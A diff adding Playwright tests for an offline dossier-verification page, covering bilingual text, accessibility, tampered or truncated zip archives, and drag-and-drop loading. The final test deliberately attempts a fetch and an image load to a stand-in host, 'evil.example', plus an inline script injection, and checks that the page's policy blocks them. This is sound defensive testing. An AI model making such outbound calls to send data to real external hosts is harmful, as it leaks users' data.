@@ -1,0 +1,109 @@
+import { readFileSync } from "node:fs";
+import { pathToFileURL } from "node:url";
+import AxeBuilder from "@axe-core/playwright";
+import type { Page } from "@playwright/test";
+import { dossierWords } from "../../../src/locales/dossier";
+import { en as english } from "../../../src/locales/en";
+import { fr as french } from "../../../src/locales/fr";
+import { expect, test } from "../support/chromium";
+import { makeDossiers, replacedFile } from "../support/dossiers";
+
+const en = { ...english, ...dossierWords.en };
+const fr = { ...french, ...dossierWords.fr };
+
+// Each opens several dossiers and is looked through by axe.
+test.setTimeout(180_000);
+
+const violations = async (page: Page) =>
+  (await new AxeBuilder({ page }).setLegacyMode().analyze()).violations.map(({ id, nodes }) => [id, nodes[0]?.html]);
+
+for (const [language, words, colorScheme] of [
+  ["en", en, "light"],
+  ["fr", fr, "dark"],
+] as const) {
+  test(`VERIFY.html verifies dossiers from the disk with the network cut, ${language}`, async ({ browserWith }) => {
+    const { verify } = words;
+    const files = await makeDossiers("chrome-mv3", language);
+    // The browser speaks the other language: the dossier's counts.
+    const browser = await browserWith({ language: language === "en" ? "fr" : "en", colorScheme });
+    await browser.context.setOffline(true);
+    const page = await browser.open(pathToFileURL(files.page).href);
+    const faults: string[] = [];
+    page.on("console", (message) => message.type() === "error" && faults.push(message.text()));
+    await expect(page.getByRole("heading", { level: 1 })).toHaveText(verify.title);
+    await expect(page.getByText(verify.limitList.rewritten)).toBeVisible();
+    expect(await violations(page)).toEqual([]);
+
+    const zip = page.getByLabel(verify.pick);
+    await zip.setInputFiles(files.whole);
+    await expect(page.getByRole("heading", { name: verify.whole })).toBeFocused();
+    await expect(page.getByText(verify.findings["exhibit-deleted"](5, 7))).toBeVisible();
+    await expect(page.getByText(files.last)).toBeVisible();
+    await expect(page.getByText("Lumen Time Authority")).toContainText("stamps/001.tsr");
+    expect(await violations(page)).toEqual([]);
+
+    await zip.setInputFiles(files.replaced);
+    await expect(page.getByRole("heading", { name: verify.broken(1) })).toBeFocused();
+    await expect(page.getByText(verify.findings["exhibit-bytes-differ"](replacedFile, 4))).toBeVisible();
+    const row = page.getByRole("row", { name: replacedFile });
+    await expect(row.getByRole("cell")).toHaveText([verify.yes, verify.no]);
+    await expect(page.getByRole("heading", { name: verify.whole })).toHaveCount(0);
+    expect(await violations(page)).toEqual([]);
+
+    await zip.setInputFiles(files.removed);
+    await expect(page.getByText(verify.causes.removed(verify.entry(1)))).toBeVisible();
+
+    await zip.setInputFiles(files.cut);
+    await expect(page.getByText(verify.unreadable["not-a-zip"])).toBeVisible();
+    await expect(page.getByRole("heading", { name: verify.unopened })).toBeFocused();
+
+    const other = language === "en" ? fr.verify : en.verify;
+    await page.getByRole("button", { name: language === "en" ? "Français" : "English" }).press("Enter");
+    await expect(page.getByRole("heading", { name: other.unopened })).toBeVisible();
+    expect(await page.locator("html").getAttribute("lang")).toBe(language === "en" ? "fr" : "en");
+
+    expect(browser.refused).toEqual([]);
+    expect(faults).toEqual([]);
+  });
+}
+
+test("a dossier can be dropped anywhere on VERIFY.html", async ({ browserWith }) => {
+  const files = await makeDossiers("chrome-mv3", "en");
+  const browser = await browserWith();
+  const page = await browser.open(pathToFileURL(files.page).href);
+  const dropped = await page.evaluateHandle(
+    (bytes) => {
+      const held = new DataTransfer();
+      held.items.add(new File([Uint8Array.from(bytes)], "dossier.zip"));
+      return held;
+    },
+    [...readFileSync(files.removed)],
+  );
+  await page.locator("h1").dispatchEvent("drop", { dataTransfer: dropped });
+  await expect(page.getByText(en.verify.causes.removed(en.verify.entry(1)))).toBeVisible();
+});
+
+test("VERIFY.html can load and send nothing by its own policy", async ({ browserWith }) => {
+  const files = await makeDossiers("chrome-mv3", "en");
+  const browser = await browserWith();
+  const page = await browser.open(pathToFileURL(files.page).href);
+  const tried = await page.evaluate(async () => {
+    const fetched = await fetch("https://evil.example/out").then(
+      () => "sent",
+      () => "refused",
+    );
+    const script = document.createElement("script");
+    script.textContent = "document.title = 'ran'";
+    document.body.append(script);
+    const picture = new Image();
+    const loaded = new Promise((done) => {
+      picture.onload = () => done("loaded");
+      picture.onerror = () => done("refused");
+    });
+    picture.src = "https://evil.example/pixel.png";
+    return [fetched, await loaded, document.title];
+  });
+  expect(tried).toEqual(["refused", "refused", en.verify.title]);
+  // Refused by the page itself, before anything went to the network.
+  expect(browser.refused).toEqual([]);
+});
